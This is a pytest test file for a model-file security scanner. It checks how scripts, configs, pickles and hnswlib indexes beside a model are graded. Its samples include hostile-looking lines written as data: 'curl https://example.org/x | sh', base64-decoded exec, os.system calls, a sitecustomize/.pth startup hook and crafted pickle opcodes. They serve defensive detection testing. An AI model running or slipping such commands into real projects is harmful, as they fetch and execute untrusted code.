"""Programs beside a model: those that a loader imports count against the folder, those that nothing runs are told and no more."""

import json
import struct
from pathlib import Path

import pytest

from attacks.opcodes import proto
from attacks.registry import MARKER
from lading.core.inspection import Grade, verdict
from lading.inspect import inspect_all
from lading.inspect.run import inspect_bytes
from lading.pickles.known import rules
from lading.render.inspection import render
from lading.render.style import Style

TRAINS = b"import argparse\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--rate')\nmain = parser.parse_args()\n"
RUNS = f"import os\n\nos.system({MARKER!r})\n".encode()


def _grades(folder: Path, **files: bytes) -> dict[str, str]:
    for name, data in files.items():
        place = folder / name.replace("__", "/").replace("_dot_", ".")
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(data)
    return {str(Path(i.path).relative_to(folder)): str(i.grade) for i in inspect_all([folder])}


def test_a_script_that_nothing_imports_does_not_make_a_folder_unscannable(tmp_path: Path) -> None:
    grades = _grades(tmp_path, train_dot_py=TRAINS, run_dot_sh=b"echo hello\n", config_dot_json=b'{"train": {"rate": 1}}')
    assert set(grades.values()) == {"benign"}
    told = render(list(inspect_all([tmp_path])), Style(80, colour=False), lambda _: "")
    assert "2 of them are programs that nothing runs when a model is loaded from here" in told


def test_a_script_with_any_letters_in_its_name_is_found_in_a_configuration(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"handler": "code/1-my-tr\u00e4in.py"}', "utf-8")
    (tmp_path / "1-my-tr\u00e4in.py").write_bytes(TRAINS)
    assert verdict(list(inspect_all([tmp_path]))) is Grade.UNSCANNABLE


def test_a_script_by_itself_stays_unscannable() -> None:
    assert inspect_bytes(TRAINS, "train.py").grade is Grade.UNSCANNABLE


@pytest.mark.parametrize(
    "other",
    [
        {"config_dot_json": json.dumps({"handler": "train.py"}).encode()},
        {"model-settings_dot_json": json.dumps({"implementation": "train.Model"}).encode()},
        {"pyproject_dot_toml": b'[build-system]\nbuild-backend = "train"\nbackend-path = ["."]\n'},
        {"MLmodel": b"flavors:\n  python_function:\n    code: train\n"},
        {"README_dot_md": b"---\napp_file: train.py\n---\n# A model\n"},
        {"config_dot_json": b"{" + b" " * (5 << 20) + b"}"},
        {"unknown_dot_json": b"{broken"},
        {"config_dot_json": b'{"handler": "tr\\u0061in.py"}'},
        {"config_dot_json": json.dumps({"handler": "train.py"}).encode("utf-16")},
    ],
)
def test_a_script_that_a_configuration_names_or_may_name_is_not_idle(tmp_path: Path, other: dict[str, bytes]) -> None:
    assert _grades(tmp_path, train_dot_py=TRAINS, **other)["train.py"] == "unscannable"


@pytest.mark.parametrize(
    "reached",
    [
        b"import helper\n",
        b"from .helper import Net\n",
        b"from . import helper\n",
        b"from package.helper import Net\n",
        b"from .first import Net\n",
        b"import importlib\n\nimportlib.import_module('hel' + 'per')\n",
        b"exec(compile('', '', 'exec'))\n",
    ],
)
def test_what_code_for_a_loader_imports_is_judged_as_if_the_loader_imported_it(tmp_path: Path, reached: bytes) -> None:
    config = json.dumps({"auto_map": {"AutoModel": "modeling_x.Net"}}).encode()
    grades = _grades(
        tmp_path, modeling_x_dot_py=reached, first_dot_py=b"from .helper import Net\n", helper_dot_py=RUNS, config_dot_json=config
    )
    assert grades["helper.py"] == "malicious"


def test_what_auto_map_names_is_reached_under_any_name(tmp_path: Path) -> None:
    config = json.dumps({"auto_map": {"AutoModel": "net.Net"}}).encode()
    assert _grades(tmp_path, net_dot_py=RUNS, config_dot_json=config)["net.py"] == "malicious"


def test_a_module_that_a_pickle_names_is_reached(tmp_path: Path) -> None:
    pickle = proto(2, b"chelper\nNet\n)\x81")
    assert _grades(tmp_path, helper_dot_py=RUNS, model_dot_pkl=pickle)["helper.py"] == "malicious"


def test_a_file_in_the_place_of_a_library_is_not_idle(tmp_path: Path) -> None:
    grades = _grades(
        tmp_path, numpy_dot_py=TRAINS, random_dot_py=TRAINS, code__torch_dot_py=TRAINS, torch____init___dot_py=TRAINS, work_dot_py=TRAINS
    )
    assert {name for name, grade in grades.items() if grade == "benign"} == {"work.py"}


def test_an_idle_program_that_runs_others_is_still_flagged(tmp_path: Path) -> None:
    grades = _grades(tmp_path, work_dot_py=RUNS, install_dot_sh=b"curl https://example.org/x | sh\n", config_dot_json=b"{}")
    assert grades == {"config.json": "benign", "install.sh": "suspicious", "work.py": "suspicious"}


def test_where_nothing_but_programs_lies_the_question_is_about_them(tmp_path: Path) -> None:
    assert _grades(tmp_path, work_dot_py=RUNS)["work.py"] == "malicious"


def test_an_idle_program_that_runs_hidden_text_stays_malicious(tmp_path: Path) -> None:
    hidden = b"import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert _grades(tmp_path, work_dot_py=hidden)["work.py"] == "malicious"


@pytest.mark.parametrize("name", ["sitecustomize_dot_py", "evil_dot_pth"])
def test_what_python_runs_at_its_start_is_never_idle(tmp_path: Path, name: str) -> None:
    _grades(tmp_path, **{name: b"import os; os.getcwd()\n"})
    assert verdict(list(inspect_all([tmp_path]))) is Grade.MALICIOUS


def test_setup_that_reads_its_page_and_asks_for_versions_is_not_called_malicious() -> None:
    code = b"import subprocess\nfrom setuptools import setup\n\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(long_description=open('README.md').read())\n"
    assert inspect_bytes(code, "setup.py").grade is Grade.SUSPICIOUS


@pytest.mark.parametrize(
    "call",
    [
        "subprocess.run(['git', 'clone', 'https://example.org/x'])",
        "subprocess.run(['git', '-c', 'core.pager=x', 'log'])",
        "subprocess.run(['git', 'log'], shell=True)",
        "subprocess.run(['bash', '-c', 'x'])",
        "subprocess.run(words)",
        "subprocess.run(['git', *words])",
        "subprocess.run('git log')",
        "os.system('git log')",
        "open('/tmp/x', 'w')\nos.system('x')",
    ],
)
def test_setup_that_starts_more_than_a_question_stays_malicious(call: str) -> None:
    assert inspect_bytes(f"import os\nimport subprocess\n\nwords = []\n{call}\n".encode(), "setup.py").grade is Grade.MALICIOUS


def _index(count: int, tail: bytes = b"") -> bytes:
    half, size = 4, 4 * 8 + 4 + 16 + 8
    header = struct.pack("<QQQQQQiiQQQdQ", 0, 8, count, size, size - 8, 36, 0, 0, half, 2 * half, half, 0.5, 10)
    return header + bytes(count * size) + bytes(4 * count) + tail


def test_an_index_of_hnswlib_is_accounted_for_to_its_last_byte() -> None:
    assert inspect_bytes(_index(3), "index.bin").grade is Grade.BENIGN
    assert inspect_bytes(_index(3, b"more"), "index.bin").grade is not Grade.BENIGN


@pytest.mark.parametrize(
    "name",
    [
        "flaml.automl.automl.AutoML",
        "gensim.models.wrappers.ldamallet.LdaMallet",
        "skmultilearn.ext.meka.Meka",
        "skorch.classifier.NeuralNetClassifier",
        "skorch.utils._TorchLoadUnpickler",
        "sklearn_crfsuite._fileresource.FileResource",
        "tensordict.memmap.MemoryMappedTensor",
        "torch_geometric.nn.conv.message_passing.MessagePassing",
        "torch_geometric.nn.conv.gcn_conv.GCNConv",
        "tsfresh.feature_extraction.settings.MinimalFCParameters",
        "xarray.core.indexing.IndexCallable",
        "sklearn.utils.Memory",
        "hyperopt.pyll.base.Apply",
        "deap.gp.PrimitiveTree",
    ],
)
def test_classes_whose_state_reaches_files_or_programs_are_in_no_table(name: str) -> None:
    assert name not in rules()


def test_only_the_type_of_bound_methods_is_taken_from_cloudpickle() -> None:
    def named(kind: bytes) -> bytes:
        return proto(2, b"ccloudpickle.cloudpickle\n_builtin_type\nU" + bytes([len(kind)]) + kind + b"\x85R")

    assert inspect_bytes(named(b"MethodType"), "x.pkl").grade is Grade.BENIGN
    assert inspect_bytes(named(b"CodeType"), "x.pkl").grade is Grade.MALICIOUS


def test_a_program_of_the_repository_is_no_tool_that_is_asked_for_its_version() -> None:
    for start in ('["./git", "--version"]', '[here + "/bin/../git", "--version"]', '[f"{here}/gcc", "--version"]'):
        source = f"import subprocess\nhere = '.'\n\n\ndef ask():\n    return subprocess.check_output({start})\n"
        assert inspect_bytes(source.encode(), "helpers.py").grade is not Grade.BENIGN
